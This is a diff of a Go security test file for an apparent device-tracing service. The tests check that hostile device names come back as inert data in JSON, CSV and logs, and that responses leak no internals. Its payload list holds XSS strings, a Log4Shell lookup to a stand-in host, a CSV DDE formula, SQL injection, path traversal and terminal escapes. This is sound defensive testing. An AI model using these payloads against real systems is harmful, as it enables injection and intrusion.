@@ -18,17 +18,17 @@ import (
 	"devicetrace/infra/local/demo/ends"
 )
 
-// hostileNames are what a device or a sender might call itself to be taken for
-// something else where it is shown.
+// hostileNames are names that a device or a sender could choose so that a program that shows them
+// takes them for something else.
 var hostileNames = []string{
 	"<script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(1)", "{{constructor}}", "${jndi:ldap://evil.example/a}",
 	"line\nbreak", "line\r\n{\"level\":\"ERROR\",\"msg\":\"forged\"}", "\x1b[2J\x1b]0;title\x07", "\x1b[31mred", "back\b\b\b\bspace", "\u2028{\"forged\":1}", "\u202eright-to-left", "nul\x00byte",
 	"=1+1", "+1", "-1", "@SUM(1)", "\t=1", "=cmd|' /C calc'!A0", "\uff1d1+1", "'; DROP TABLE events; --", "../../etc/passwd", "%s%n%x", strings.Repeat("A", 60_000),
 }
 
-// TestAttackNames: hostile names come back as they were, as data: in JSON that no
-// browser takes for a page, in CSV that no spreadsheet takes for a formula, and in logs
-// of one line a record.
+// TestAttackNames: hostile names must be returned unchanged, and as data. No browser may take the
+// JSON for a page, no spreadsheet a CSV cell for a formula, and each log record must stay on one
+// line.
 func TestAttackNames(t *testing.T) {
 	t.Parallel()
 	count := countAttacks(t)
@@ -39,7 +39,7 @@ func TestAttackNames(t *testing.T) {
 		body, err := json.Marshal(event)
 		require.NoError(t, err)
 		r := s.post(t, "/webhooks/events/names", body, http.Header{"X-Log-Position": {"p"}, "User-Agent": {"</script>\t${x}"}})
-		if r.status == 400 { // names that no broker's string may hold
+		if r.status == 400 { // an MQTT string cannot hold this name
 			require.Contains(t, string(r.body), `"rejected":[{`)
 			count.note(r)
 			continue
@@ -60,20 +60,20 @@ func TestAttackNames(t *testing.T) {
 	s.requireWholeLines(t)
 }
 
-// requireNamed asks for a device in all formats.
+// requireNamed queries a device in JSON and CSV.
 func requireNamed(t *testing.T, s *stack, name string, from time.Time) {
 	t.Helper()
-	if len(name) > 1000 { // the platform takes URLs of 4 KB
+	if len(name) > 1000 { // the platform's limit for URLs is 4 KB
 		return
 	}
 	q := question("names", name, from.Add(-time.Minute), time.Now())
 	page := s.ask(t, q)
 	require.Equal(t, "application/json", page.header.Get("Content-Type"))
 	require.Equal(t, "nosniff", page.header.Get("X-Content-Type-Options"))
-	var a tracePage
-	require.NoError(t, json.Unmarshal(page.body, &a))
-	require.Len(t, a.Events, 1)
-	require.Equal(t, name, a.rows(t)[0].ClientID)
+	var trace tracePage
+	require.NoError(t, json.Unmarshal(page.body, &trace))
+	require.Len(t, trace.Events, 1)
+	require.Equal(t, name, trace.rows(t)[0].ClientID)
 
 	table := s.ask(t, with(q, "format", "csv"))
 	require.Equal(t, "nosniff", table.header.Get("X-Content-Type-Options"))
@@ -85,7 +85,8 @@ func requireNamed(t *testing.T, s *stack, name string, from time.Time) {
 	}
 }
 
-// connectNamed lets devices with such names connect to the local broker, and be refused.
+// connectNamed connects devices with hostile names to the local broker, with a valid and an invalid
+// login.
 func (s *stack) connectNamed(t *testing.T) {
 	t.Helper()
 	for _, name := range hostileNames {
@@ -97,37 +98,37 @@ func (s *stack) connectNamed(t *testing.T) {
 	}
 }
 
-// fixedLine is what the platform's SDK says of each call.
+// fixedLine matches the lines that the platform's SDK logs for each call.
 var fixedLine = regexp.MustCompile(`^FC (Invoke|Initialize|PreStop) (Start|End) RequestId: [0-9a-z-]+$`)
 
-// requireWholeLines: every line of a function's log is one record, and nothing that was
-// said can move a terminal's cursor.
+// requireWholeLines checks that every line of the functions' log is one record, and that no output
+// can move a terminal's cursor.
 func (s *stack) requireWholeLines(t *testing.T) {
 	t.Helper()
 	logged, err := os.ReadFile(filepath.Join(s.data, "functions.log"))
 	require.NoError(t, err)
 	for line := range strings.Lines(string(logged)) {
-		_, said, found := strings.Cut(strings.TrimSuffix(line, "\n"), " | ")
+		_, message, found := strings.Cut(strings.TrimSuffix(line, "\n"), " | ")
 		require.True(t, found, line)
-		if fixedLine.MatchString(said) {
+		if fixedLine.MatchString(message) {
 			continue
 		}
 		var record struct{ Time, Level, Msg, Function string }
-		require.NoError(t, json.Unmarshal([]byte(said), &record), said)
+		require.NoError(t, json.Unmarshal([]byte(message), &record), message)
 		require.NotEqual(t, "forged", record.Msg)
 	}
-	for _, text := range []string{string(logged), s.output.said.String()} {
+	for _, text := range []string{string(logged), s.output.text.String()} {
 		require.NotRegexp(t, "[\x00-\x08\x0b-\x1f\x7f\u2028\u202e]", text)
 		require.NotContains(t, text, "\n{\"level\"")
 	}
 }
 
-// internals are what no answer may tell.
+// internals matches details of the implementation, which no response may reveal.
 var internals = regexp.MustCompile(`goroutine|panic|\.go:|runtime error|secret|STS\.|<Error>|oss-|aliyuncs`)
 
-// TestAttackAnswers: no answer of private data, and no refusal, may be kept, sniffed or
-// read by a page of another origin, or tells of the machinery behind it.
-func TestAttackAnswers(t *testing.T) {
+// TestAttackResponses: no response with private data and no refusal may be cached, have its type
+// guessed, be readable by a page of another origin, or reveal details of the implementation.
+func TestAttackResponses(t *testing.T) {
 	t.Parallel()
 	s := newStackWith(t, "ADMIN_TOKEN="+adminToken)
 	s.record(t, "attacked", manyEvents(secretClient, time.Now(), 1))
